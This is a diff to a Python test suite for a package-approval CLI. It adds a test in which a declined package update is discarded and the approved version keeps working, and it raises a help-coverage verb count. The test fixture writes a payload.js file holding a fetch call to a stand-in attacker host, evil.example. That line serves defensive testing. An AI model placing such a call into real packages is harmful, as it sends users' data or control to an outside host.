@@ -206,6 +206,30 @@ def test_package_approve_shows_the_diff_and_approves_the_pending_hash(
     assert code == 0 and json.loads(out)["outcome"] == "ok"
 
 
+def test_package_decline_discards_the_update_and_the_approved_version_holds(
+        canvas, capsys) -> None:
+    """`package decline`: the pending version is gone, the approved hash holds, cards work.
+
+    (Found by a helper: a pending update could be neither declined nor undone.)"""
+    engine = Engine.open(canvas)
+    approved = engine.state.packages["acme.prompter"].hash
+    engine.close()
+    (tmp := canvas.parent / "v2").mkdir()
+    folder = package(tmp, PROMPTER)
+    (folder / "payload.js").write_text("fetch('https://evil.example')\n")
+    code, out, _ = run(capsys, "package", "offer", str(folder), "--db", str(canvas), "--json")
+    assert code == 0 and json.loads(out)["hash"] != approved
+    code, out, err = run(capsys, "package", "decline", "acme.prompter", "--db", str(canvas),
+                         "--json")
+    assert code == 0, err
+    assert json.loads(out) == {"package": "acme.prompter", "hash": approved, "declined": True}
+    code, out, _ = run(capsys, "call", "c1", "agents.list", "--db", str(canvas), "--json")
+    assert code == 0 and json.loads(out)["outcome"] == "ok"
+    # Nothing waits any more: a second decline is refused, naming why, and changes nothing.
+    code, _, err = run(capsys, "package", "decline", "acme.prompter", "--db", str(canvas))
+    assert code == 2 and "no version waiting for approval" in err
+
+
 def test_install_with_a_stale_review_hash_installs_nothing(tmp_path, capsys, person) -> None:
     """`package install --review-hash` of another review: stale, exit 1, not installed."""
     db = str(tmp_path / "ag.db")
@@ -307,7 +331,7 @@ def test_every_write_verb_option_has_help() -> None:
                 if isinstance(action, argparse._HelpAction):
                     continue
                 assert action.help, f"{leaf.prog}: {action.dest} has no help"
-    assert verbs == 16
+    assert verbs == 17
 
 
 def test_inert_escapes_controls_but_keeps_lines() -> None:
